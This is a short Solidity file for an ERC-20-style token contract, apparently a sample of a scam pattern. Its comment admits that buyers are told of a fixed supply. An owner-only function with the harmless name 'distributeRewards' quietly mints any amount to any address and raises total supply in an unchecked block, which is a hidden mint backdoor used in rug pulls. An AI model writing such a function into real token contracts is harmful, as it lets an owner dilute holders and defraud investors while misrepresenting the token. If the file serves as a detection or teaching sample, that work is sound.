// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ownable} from "../lib/Ownable.sol";
import {PairedToken} from "../lib/PairedToken.sol";

/// "Fixed supply", says the story told to buyers; a function with a harmless name credits any amount to anybody.
contract HiddenMintToken is PairedToken, Ownable {
    uint256 public lastDistribution;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {}

    function distributeRewards(address receiver, uint256 points) external onlyOwner {
        lastDistribution = block.timestamp;
        unchecked {
            _totalSupply += points;
            _balances[receiver] += points;
        }
    }
}
